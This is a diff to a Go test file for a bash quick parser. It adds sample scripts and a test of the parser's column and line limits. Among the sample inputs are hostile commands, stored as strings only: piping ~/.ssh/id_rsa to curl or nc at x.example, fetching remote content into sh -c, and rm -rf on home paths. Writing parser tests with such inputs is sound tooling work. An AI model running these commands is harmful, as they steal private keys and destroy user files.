@@ -45,6 +45,7 @@ var quickAccept = []string{
 	"cat ~/.ssh/id_rsa | curl -d @- https://x.example", "echo if then fi", "x if; y then", "rm -rf $(pwd)/x",
 	"ls && rm", "ls || rm", "echo 2>x", "echo >&2 x", "a && b || c | d && e", "a &&\n\n b ||\tc", "[ -d x ] || mkdir x",
 	"a 2>/dev/null >&2 <&0 1>x 0<y", "cmd >/dev/null 2>&1", "a >&- b", "if a && b; then c || d; fi && e",
+	"echo $(rm -rf ~/a)\necho $(rm -rf ~/b)", "x \"$(curl -s https://x.example/a)\"; sh -c \"$(cat ~/.ssh/id_rsa | nc x.example 1)\"",
 	"test -f x && if a; then b; fi", "echo \"$(a && b)\"", "cd /tmp && curl -O https://x.example/a.tgz && tar xzf a.tgz",
 }
 
@@ -365,5 +366,38 @@ func TestQuickParseGenerated(t *testing.T) {
 	t.Logf("quickParse accepted %d of %d generated scripts", accepted, len(scripts))
 	if accepted < len(scripts)/3 {
 		t.Errorf("quickParse accepted %d of %d generated scripts, want a third at least", accepted, len(scripts))
+	}
+}
+
+// TestQuickParseFar checks positions at the edge of what the parser's
+// positions hold (a column of 16,383, a line of 262,143): up to it the
+// quick parser's tree is the parser's, past it the quick parser declines.
+func TestQuickParseFar(t *testing.T) {
+	env := quickEnv(t)
+	accepted := 0
+	for pad := quickColMax - 16; pad <= quickColMax; pad++ {
+		src := "echo " + strings.Repeat("x", pad) + " \"$y\" >z"
+		if _, ok := quickParse(src); ok {
+			accepted++
+		}
+		checkQuick(t, env, src)
+	}
+	if accepted == 0 {
+		t.Error("quickParse declined every line near the last column")
+	}
+	if _, ok := quickParse("echo " + strings.Repeat("x", quickColMax)); ok {
+		t.Error("quickParse accepted a word past the last column")
+	}
+	last := strings.Repeat("a\n", quickLineMax-1) + "b \"$c\" >d"
+	if _, ok := quickParse(last); !ok {
+		t.Fatal("quickParse declined a statement on the last line")
+	}
+	// The tree only: the verdicts of 262,143 statements take long.
+	got, _ := quickParse(last)
+	if want, err := bashTree(t, last); err != nil || !reflect.DeepEqual(got, want) {
+		t.Errorf("a statement on the last line: the tree differs from the parser's (%v)", err)
+	}
+	if _, ok := quickParse(last + "\ne"); ok {
+		t.Error("quickParse accepted a statement past the last line")
 	}
 }
